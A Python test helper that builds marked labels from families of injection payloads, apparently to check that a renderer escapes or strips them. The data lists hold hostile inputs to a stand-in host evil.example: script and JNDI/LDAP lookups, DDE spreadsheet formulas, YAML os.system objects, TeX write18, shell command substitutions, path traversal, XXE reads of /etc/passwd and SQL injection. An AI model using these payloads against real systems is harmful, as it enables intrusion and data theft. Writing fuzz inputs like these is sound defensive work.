"""Labels that try to be something else than a label: families of payloads, made by code.

Every label holds a marker of its own, so that a test can ask of any output whether the label is in it at all.
"""

from __future__ import annotations

import re

HOST = "evil.example"

FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": (
        "<b>bold</b>", "<script>alert(1)</script>", f"<script src=//{HOST}/x.js></script>", "</script><script>alert(1)//",
        "<img src=x onerror=alert(1)>", f"<iframe src=https://{HOST}></iframe>", f'<a href="https://{HOST}">x</a>',
        "<a href=javascript:alert(1)>x</a>", "</style><style>*{display:none}</style>", "</title><base href=//x>", "<!--", "-->",
        "<![CDATA[x", "]]>", "<?php x ?>", "<plaintext>", "<textarea>", "</table></section></main>", "<details open>",
        "<math><mtext></mtext><style><img src=x onerror=alert(1)>", "<form action=x><input autofocus>", "<meta http-equiv=refresh>",
    ),
    "attributes": (
        '" onmouseover="alert(1)', "' autofocus onfocus='alert(1)", '"><svg onload=alert(1)>', "x` onclick=`alert(1)",
        '" style="position:fixed', '" href="javascript:alert(1)', "a=b c='d'", '"/><x y="', "onload=alert(1)",
    ),
    "entities": (
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;b&#x3e;", "&#60;b&#62;", "&amp;lt;", "&x;", "&", "&nbsp;&#0;",
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&#x202e;abc", "&colon;//x",
    ),
    "svg": (
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>", f"<use href='//{HOST}#x'/>", "</text><script/>",
        "<animate attributeName=href values=javascript:alert(1)>", "<image href=x>", "url(#clip)", "]]></svg>",
    ),
    "formulas": (
        f'=HYPERLINK("https://{HOST}","x")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\uff1d1+1", "\uff0b1+1", "\uff201",
        "=cmd|' /C calc'!A0", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1", ";=1+1", '"=1+1', "-2+3+cmd|x", "%=1+1", "|=1+1",
    ),
    "bidi": (
        "\u202eabc", "\u202dabc\u202c", "\u2066abc\u2069", "\u2067abc", "\u200fabc", "\u200eabc", "\u061cabc", "a\u202bb", "a\u202ab",
    ),
    "unseen": (
        "wo\u200bmen", "wo\u200cmen", "wo\u200dmen", "wo\u00admen", "wo\u2060men", "\ufeffwomen", "wo\u034fmen", "\u3164women",
        "\u2800women", "\U000e0077\U000e006f", "x\ufe00\ufe01\ufe02", "x\U000e0101\U000e0102", "\uffa0", "\ufff9a\ufffbb", "\u180ea",
    ),
    "controls": (
        "a\x00b", "\x1b[31mred\x1b[0m", "\x1b[2J", f"\x1b]8;;https://{HOST}\x1b\\x", "\x1b]0;title\x07", "\x9b31mred", "\x07bell",
        "a\rb", "a\x08\x08b", "a\x7fb", "a\x85b", "a\u2028b", "a\u2029b", "a\nb", "a\x0bb", "a\x0cb", "\x90q\x9c", "a\x1cb",
        "\ufffe", "\uffff", "\ufdd0", "\U0001fffe",
    ),
    "long": ("x" * 10_000, "word " * 2_000, "<b>" * 3_000, "\u202e" * 500, "日" * 3_000, "|" * 900, "`" * 700, "[" * 600),
    "stacks": ("e" + "\u0301" * 300, "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a", "\u0301" * 60),
    "tex": (
        "$\\frac{x", "$x^2$", "\\input{/etc/passwd}", "\\write18{id}", "\\def\\x{y}", "^^5cinput", "% comment", "{{{", "}}}", "[2cm]",
        "*", "\\\\[9cm]", "\\end{longtable}", "a & b \\\\ c", "#1 ~ _ ^", "\\catcode`\\@=11", "\\verb|x|", "--- ?` !`", "\\(x\\)",
        "\\csname x\\endcsname", "\\begin{verbatim}",
    ),
    "templates": (
        "{{7*7}}", "{% raw %}", "{# x #}", "${7*7}", "<%= 7*7 %>", "#{7*7}", "`${alert(1)}`", "{0} {x!r} %s %n %(y)d", "{{ page }}",
        f"${{jndi:ldap://{HOST}/a}}", "$(id)", "`id`", "; id", "&& id", "| id", "%PATH% $HOME", "!event", "${{ secrets.X }}",
    ),
    "markdown": (
        f"[x](https://{HOST})", f"![x](https://{HOST}/x.png)", "| a | b |", "|---|", "`code`", "```", "~~~", "# head", "## head", "- item",
        "+ item", "* item", "1. one", "2) two", "> quote", f"<https://{HOST}>", f"https://{HOST}", f"www.{HOST}", f"me@{HOST}",
        f"mailto:me@{HOST}", "@someone", "~~gone~~", "**bold**", "__bold__", "_it_", "[^1]", f"[x]: https://{HOST}", "---", "===", "\\",
        "\\*x\\*", "&#91;x&#93;(y)", "- [ ] task", "[[wiki]]", ":smile:", "$$x$$", "==mark==", "    code", "<div>", "| --- | --- |",
    ),
    "data": (
        "!!python/object/apply:os.system [id]", "--- a: b", "&a *a", "[table]", '"""', "'''", "key = 1", "null", "true", "nan", "0x10", "1e5",
        "-5.2", "0", "1,000", '"}],"x":[{"', "\\u0000", "\\ud800", "\\x1b[31m", "a,b;c\td", '"quoted"', "it's", "__proto__", "constructor",
        "'; DROP TABLE x;--", "<?xml version='1.0'?>", "text/html", "all", "everyone", "other",
    ),
    "addresses": (
        "%00", "%2e%2e%2f", "%0d%0aSet-Cookie: x", "javascript:alert(1)", "data:text/html,<b>", "vbscript:x", f"//{HOST}/x",
        "file:///etc/passwd", f"\\\\{HOST}\\x", "#fragment", "?a=1&b=2", "../../etc/passwd", "..\\..\\x", "C:\\Windows", "CON", "NUL", "aux.txt",
        "COM1", "/dev/null", "~/.ssh", "a/b", ".", "..", "-rf", "--help",
    ),
    "styles": (
        f"url(https://{HOST}/x.css)", "}*{display:none}", "expression(alert(1))", f"@import 'https://{HOST}'", "</style>", "AUDIT-ID", "\\65 x",
    ),
    "machines": (
        "::error::x", "::set-output name=a::b", "##[error]x", "##vso[task.setvariable variable=x]y", "(x) Tj ET", "/JavaScript (x)", "%%EOF",
        "endobj", "\\( \\)",
    ),
    "scripts": ("مرحبا بالعالم", "עברית", "日本語", "👩\u200d🚀", "🏳️\u200d🌈", "می\u200cخواهم", "ﷺ", "ẛ̣", "Ⅷ", "ǅ", "ß", "İ"),
}  # fmt: skip


def labels() -> list[str]:
    """All of them: each payload begins a label, and every fourth ends another too."""
    payloads = [each for family in FAMILIES.values() for each in family]
    # What is clipped loses its end, so a long one is led by its marker.
    firsts = [f"n{n:03d}n {each}" if len(each) > 100 else f"{each} n{n:03d}n" for n, each in enumerate(payloads)]
    return firsts + [f"n{500 + n:03d}n {each}" for n, each in enumerate(payloads) if n % 4 == 0 and len(each) <= 100]


def marker(label: str) -> str:
    """What tells a label from all others."""
    return re.findall(r"n\d{3}n", label)[0]


def harmless(label: str, length: int) -> str:
    """A label of letters that is as long in print, with the same marker."""
    return f"{marker(label)} {'harmless words ' * 700}"[: max(length, 5)].strip()
